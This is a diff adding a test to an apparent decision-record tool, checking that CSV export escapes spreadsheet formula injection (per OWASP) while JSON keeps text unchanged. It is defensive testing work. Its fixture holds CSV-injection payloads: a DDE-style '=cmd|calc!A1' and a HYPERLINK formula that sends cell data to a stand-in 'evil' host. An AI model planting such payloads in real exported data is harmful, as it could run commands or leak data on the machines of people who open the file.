@@ -135,6 +135,19 @@ def test_json_and_csv_show_every_link_a_record_writes(project: Project) -> None:
     assert [line.rsplit(",", 2)[1] for line in csv] == ["links", "amended-by 2", "amends 1", "extends 1", "supersedes 1"]
 
 
+def test_csv_text_cells_that_open_as_a_formula_are_shown_as_text(project: Project) -> None:
+    """A CSV text cell opening with `=`, `+`, `-` or `@` (a title, a tag, a decision-maker) gets a `'` before it, so
+    a spreadsheet shows it rather than running it (OWASP); numbers and dates are written as they are, and the
+    JSON keeps the text unchanged."""
+    project.write("decisions/0001-x.md", '---\nstatus: accepted\ndate: 2021-04-19\ntags: ["=cmd|calc!A1", "ok"]\n'
+                                         'decision-makers: ["@evil", "Ann"]\nconsulted: ["+1 team"]\n'
+                                         'informed: ["-all"]\n---\n# =HYPERLINK("http://evil/?"&A1,"click")\n')
+    rows = project.run("list", "--format", "csv").stdout.splitlines()
+    assert rows[1] == ("1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",accepted,2021-04-19,,,"
+                       "'=cmd|calc!A1; ok,'@evil; Ann,'+1 team,'-all,,,,frontmatter,0001,,,decisions/0001-x.md")
+    assert json.loads(project.run("list", "--format", "json").stdout)[0]["tags"] == ["=cmd|calc!A1", "ok"]
+
+
 def test_show_by_number_file_name_and_path(project: Project) -> None:
     """show finds a record by number, zero-padded number, file name and path alike."""
     project.run("init")
